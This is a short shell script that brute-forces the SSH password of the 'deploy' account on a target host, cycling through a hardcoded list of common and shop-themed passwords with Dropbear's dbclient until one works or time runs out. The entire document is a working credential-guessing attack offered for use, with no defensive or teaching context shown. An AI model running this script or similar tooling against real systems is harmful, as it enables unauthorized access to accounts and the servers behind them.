#!/bin/sh
# brute-force.sh TARGET SECONDS - guesses the password of one account over SSH until it fits or time is up.
end=$(($(date +%s) + $2))
for word in 123456 password letmein welcome shop2023 deploy deploy1 deploy123 qwerty admin admin123 changeme master secret \
  dragon monkey shop shop123 summer2023 summer2024 winter2023 spring2024 corner cornershop autumn2023 autumn2024; do
  [ "$(date +%s)" -lt "$end" ] || exit 0
  export DROPBEAR_PASSWORD=$word
  dbclient -y -y "deploy@$1" true </dev/null >/dev/null 2>&1 && { echo "it is $word"; exit 0; }
done
exit 1
